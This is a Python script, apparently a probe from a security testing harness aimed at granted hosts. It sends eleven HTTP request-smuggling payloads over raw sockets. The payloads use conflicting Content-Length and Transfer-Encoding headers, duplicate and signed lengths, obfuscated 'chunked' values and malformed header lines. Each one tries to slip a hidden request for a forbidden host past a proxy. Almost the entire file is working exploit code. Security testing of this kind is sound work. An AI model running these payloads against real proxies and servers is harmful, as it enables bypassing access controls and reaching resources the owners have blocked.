# Hides a second request from a proxy that reads lengths otherwise than the server: both lengths, odd chunks, doubled
# and signed lengths (request smuggling). The host reads each request head that arrives.
import socket
from contextlib import suppress

from common import facts, finish

name, port = facts["granted_name"], facts["granted_port"]
hidden = "GET /hidden HTTP/1.1\r\nHost: forbidden.test\r\n\r\n"
start = f"POST / HTTP/1.1\r\nHost: {name}:{port}\r\n"
size = f"{len(hidden):x}"
REQUESTS = [
    f"{start}Content-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
    f"{start}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{size}\r\n{hidden}\r\n0\r\n\r\n",
    f"{start}Content-Length: {len(hidden)}\r\nContent-Length: 0\r\n\r\n{hidden}",
    f"{start}Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
    f"{start}Content-Length: +{len(hidden)}\r\n\r\n{hidden}",
    f"{start}Content-Length : {len(hidden)}\r\n\r\n{hidden}",
    f"{start}Transfer-Encoding: xchunked\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
    f"{start}Transfer-Encoding:\tchunked\r\nContent-Length: {len(hidden)}\r\n\r\n0\r\n\r\n{hidden}",
    f"{start}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{hidden}",
    f"{start}X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
    f"{start}Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\n\r\n{hidden}",
]
for request in REQUESTS:
    for host in facts["granted_hosts"]:
        with suppress(OSError), socket.create_connection((host, port), 1) as stream:
            stream.settimeout(0.4)
            stream.sendall(request.encode())
            stream.recv(500)
            with suppress(TimeoutError):
                stream.recv(500)
            break
finish("the host reads")
